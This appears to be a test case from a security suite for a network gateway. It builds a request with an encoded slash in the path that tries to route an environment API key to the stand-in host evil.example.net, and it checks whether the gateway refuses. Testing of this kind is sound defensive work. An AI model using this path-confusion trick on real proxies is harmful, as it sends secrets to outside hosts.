# /// attack
# guarantee = "network"
# summary = "Leads the gateway astray by an encoded slash."
# reference = "RFC 3986, 6.2.2"
# success = "that server gets the value"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy is not a host name" }
# ///

import os

from kit import by_gateway, exchange, has_proxy, head, judge

KEY = f"X-Api-Key: {os.environ['API_KEY']}"
if has_proxy():
    judge(
        exchange(
            "", head("GET /evil.example.net%2fapi.example.org/", "Host: api.example.org", "Connection: close", KEY)
        )
    )
judge(by_gateway("evil.example.net", "/", KEY))
